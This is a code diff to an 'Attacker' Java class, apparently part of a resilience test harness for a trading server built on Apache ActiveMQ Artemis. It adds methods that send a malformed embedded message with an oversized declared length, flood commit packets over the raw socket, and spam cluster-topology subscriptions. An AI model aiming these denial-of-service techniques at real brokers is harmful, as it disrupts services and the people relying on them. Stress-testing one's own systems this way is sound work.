@@ -1,5 +1,6 @@
 package trader.server;
 
+import static org.apache.activemq.artemis.api.core.Message.EMBEDDED_TYPE;
 import static org.apache.activemq.artemis.api.core.Message.TEXT_TYPE;
 
 import io.netty.buffer.ByteBuf;
@@ -27,13 +28,16 @@ import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
+import org.apache.activemq.artemis.api.core.ActiveMQBuffer;
 import org.apache.activemq.artemis.api.core.ActiveMQException;
+import org.apache.activemq.artemis.api.core.RoutingType;
 import org.apache.activemq.artemis.api.core.SimpleString;
 import org.apache.activemq.artemis.api.core.client.ClientMessage;
 import org.apache.activemq.artemis.api.core.client.ClientProducer;
 import org.apache.activemq.artemis.api.core.client.ClientSession;
 import org.apache.activemq.artemis.api.core.client.ClientSessionFactory;
 import org.apache.activemq.artemis.core.client.impl.ClientSessionInternal;
+import org.apache.activemq.artemis.core.message.impl.CoreMessage;
 import org.apache.activemq.artemis.core.protocol.core.Channel;
 import org.apache.activemq.artemis.core.protocol.core.CoreRemotingConnection;
 import org.apache.activemq.artemis.core.protocol.core.Packet;
@@ -46,6 +50,8 @@ import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionClo
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionQueueQueryMessage;
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionSendContinuationMessage_V3;
 import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionSendLargeMessage;
+import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SessionSendMessage_V3;
+import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.SubscribeClusterTopologyUpdatesMessageV2;
 import org.apache.activemq.artemis.core.remoting.impl.netty.NettyConnection;
 import org.apache.activemq.artemis.jms.client.ActiveMQConnectionFactory;
 import org.apache.activemq.artemis.jms.client.ActiveMQSession;
@@ -202,6 +208,21 @@ final class Attacker implements AutoCloseable {
         }
     }
 
+    /** Before anything else looks at it, Artemis reads the message within. */
+    void embedded() throws Exception {
+        ClientMessage message = core().createMessage(EMBEDDED_TYPE, false);
+        ActiveMQBuffer body = message.getBodyBuffer();
+        body.writeBytes("EMB".getBytes(StandardCharsets.US_ASCII));
+        body.writeByte((byte) 1);
+        body.writeLong(1);
+        body.writeNullableSimpleString(SimpleString.of(QueueNames.ORDERS));
+        body.writeInt(Integer.MAX_VALUE - 1_000);
+        try (ClientProducer producer = core().createProducer(QueueNames.ORDERS)) {
+            producer.send(message);
+        }
+        reconnect();
+    }
+
     void quotes(int number, int queues, String correlationId) throws Exception {
         List<TemporaryQueue> replies = new ArrayList<>();
         for (int i = 0; i < queues; i++) {
@@ -285,12 +306,40 @@ final class Attacker implements AutoCloseable {
         repeat(number, i -> channel.send(packets.packet(i)));
     }
 
+    /** Waits for nothing but the socket. */
+    void commits(int number) throws Exception {
+        ClientSession transacted = ((ActiveMQSession) transactedSession()).getCoreSession();
+        CoreRemotingConnection remote = channel(transacted).getConnection();
+        io.netty.channel.Channel socket = ((NettyConnection) remote.getTransportConnection()).getNettyChannel();
+        ClientMessage order = transacted.createMessage(TEXT_TYPE, true);
+        order.setAddress(QueueNames.ORDERS).setRoutingType(RoutingType.ANYCAST);
+        order.getBodyBuffer().writeNullableSimpleString(SimpleString.of(codec.encode(Fixtures.order("S0001"))));
+        repeat(number, i -> {
+            for (Packet packet : List.of(new SessionSendMessage_V3((CoreMessage) order, false, null, 1),
+                    new PacketImpl(PacketImpl.SESS_COMMIT))) {
+                packet.setChannelID(channel(transacted).getID());
+                remote.getTransportConnection().write(packet.encode(remote));
+            }
+            while (!socket.isWritable() && !ended) {
+                Thread.onSpinWait();
+            }
+        });
+    }
+
     void channels(int number) throws Exception {
         CoreRemotingConnection remote = channel(core()).getConnection();
         repeat(number, i -> {
             Packet packet = new PacketImpl(PacketImpl.SESS_XA_SUSPEND);
             packet.setChannelID(1_000 + i);
             remote.getTransportConnection().write(packet.encode(remote));
+        });
+    }
+
+    void subscriptions(int number) throws Exception {
+        repeat(number, i -> {
+            CoreRemotingConnection remote = channel(core()).getConnection();
+            remote.getChannel(CHANNEL_ID.PING.id, -1)
+                    .send(new SubscribeClusterTopologyUpdatesMessageV2(false, remote.getChannelVersion()));
         });
     }
 
@@ -341,7 +390,7 @@ final class Attacker implements AutoCloseable {
         return new CreateProducerMessage(number, SimpleString.of("invented " + number));
     }
 
-    private static Channel channel(ClientSession session) {
+    static Channel channel(ClientSession session) {
         return ((ActiveMQSessionContext) ((ClientSessionInternal) session).getSessionContext()).getSessionChannel();
     }
 
